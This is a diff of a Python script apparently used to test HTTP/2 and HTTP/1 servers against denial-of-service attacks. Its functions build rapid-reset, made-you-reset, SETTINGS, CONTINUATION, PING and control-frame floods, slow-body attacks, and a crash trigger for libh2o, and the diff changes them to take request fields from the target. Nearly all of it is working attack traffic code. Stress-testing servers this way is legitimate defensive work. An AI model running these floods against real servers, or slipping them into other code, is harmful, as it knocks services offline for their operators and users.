@@ -42,14 +42,14 @@ def again(target, until, payload, expect_calm=True):
 def window_abort(target, until):
     """libh2o aborts when a WINDOW_UPDATE meets a window used up exactly while a write is blocked."""
     for size in (1, 2, 3, 4, 100, 4094):
-        wrong = again(target, 0, hello(setting(4, size)) + b"".join(get(s) for s in range(1, 100, 2)))
+        wrong = again(target, 0, hello(setting(4, size)) + b"".join(get(s, fields=target.get) for s in range(1, 100, 2)))
         if wrong:
             return f"window of {size}: {wrong}"
     while time.monotonic() < until:
         with connect(target, receive_buffer=2048) as sock:
             sock.settimeout(0.2)
             update = struct.pack(">I", 1)
-            asks = b"".join(get(s) + frame(WINDOW, 0, s, update) for s in range(1, 400, 2))
+            asks = b"".join(get(s, fields=target.get) + frame(WINDOW, 0, s, update) for s in range(1, 400, 2))
             try:
                 sock.sendall(hello(setting(4, 4095)) + asks)
             except OSError:
@@ -71,19 +71,19 @@ def hpack_bomb(target, until):
 
 def rapid_reset(target, until):
     return again(target, until, hello() + b"".join(
-        get(s) + frame(RST, 0, s, CANCEL) for s in range(1, 20000, 2)))
+        get(s, fields=target.get) + frame(RST, 0, s, CANCEL) for s in range(1, 20000, 2)))
 
 
 def post_reset(target, until):
     return again(target, until, hello() + b"".join(
-        get(s, END_HEADERS, POST) + frame(DATA, END_STREAM, s, b"x" * 100) + frame(RST, 0, s, CANCEL)
+        get(s, END_HEADERS, target.post) + frame(DATA, END_STREAM, s, target.body) + frame(RST, 0, s, CANCEL)
         for s in range(1, 10000, 2)))
 
 
 def made_you_reset(target, until):
     zero = struct.pack(">I", 0)
-    first = hello() + b"".join(get(s) + frame(WINDOW, 0, s, zero) for s in range(1, 20000, 2))
-    second = hello() + b"".join(get(s) + frame(DATA, 0, s, b"x") for s in range(1, 20000, 2))
+    first = hello() + b"".join(get(s, fields=target.get) + frame(WINDOW, 0, s, zero) for s in range(1, 20000, 2))
+    second = hello() + b"".join(get(s, fields=target.get) + frame(DATA, 0, s, b"x") for s in range(1, 20000, 2))
     return again(target, until - 1, first) or again(target, until, second)
 
 
@@ -102,7 +102,7 @@ def ping_flood(target, until):
 
 def settings_flood(target, until):
     many = b"".join(setting(4, 65535 + i % 2) for i in range(2700))
-    streams = b"".join(get(s, END_HEADERS, POST) for s in range(1, 200, 2))
+    streams = b"".join(get(s, END_HEADERS, target.post) for s in range(1, 200, 2))
     return again(target, until - 1, hello() + frame(SETTINGS) * 20000) or \
         again(target, until, hello() + streams + frame(SETTINGS, 0, 0, many) * 1000)
 
@@ -116,7 +116,7 @@ def continuation_flood(target, until):
 
 def control_flood(target, until):
     """Empty and padded DATA, WINDOW_UPDATE, PRIORITY."""
-    post = get(1, END_HEADERS, POST)
+    post = get(1, END_HEADERS, target.post)
     floods = (post + frame(DATA, 0, 1, b"") * 100000, post + frame(DATA, 8, 1, b"\x05" + b"\0" * 5) * 100000,
               frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 100000,
               post + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 100000)
@@ -178,7 +178,7 @@ def slow(target, until):
         ("h1 body", head + b"content-length: 1000000\r\n\r\n", b"x"),
         ("h1 chunks", head + b"transfer-encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
         ("h1 nothing", b"", None),
-        ("h2 body", hello() + get(1, END_HEADERS, POST), frame(DATA, 0, 1, b"x" * 100)),
+        ("h2 body", hello() + get(1, END_HEADERS, target.post), frame(DATA, 0, 1, b"x" * 100)),
         ("h2 open block", hello() + open_block, lambda n: b"" if n > 1 else b"\0"),
         ("h2 dripped frame", hello(), lambda n: (frame(PING, 0, 0, b"12345678") * 9)[n:n + 1]),
         ("h2 pings only", hello(), frame(PING, 0, 0, b"12345678")),
@@ -225,7 +225,7 @@ def partial_bodies(target, until):
         sock = connect(target)
         socks.append(sock)
         try:
-            sock.sendall(hello() + b"".join(get(s, END_HEADERS, POST) for s in range(1, 200, 2)))
+            sock.sendall(hello() + b"".join(get(s, END_HEADERS, target.post) for s in range(1, 200, 2)))
             for _ in range(64):
                 sock.sendall(b"".join(frame(DATA, 0, s, b"x" * 16000) for s in range(1, 200, 2)))
         except OSError:
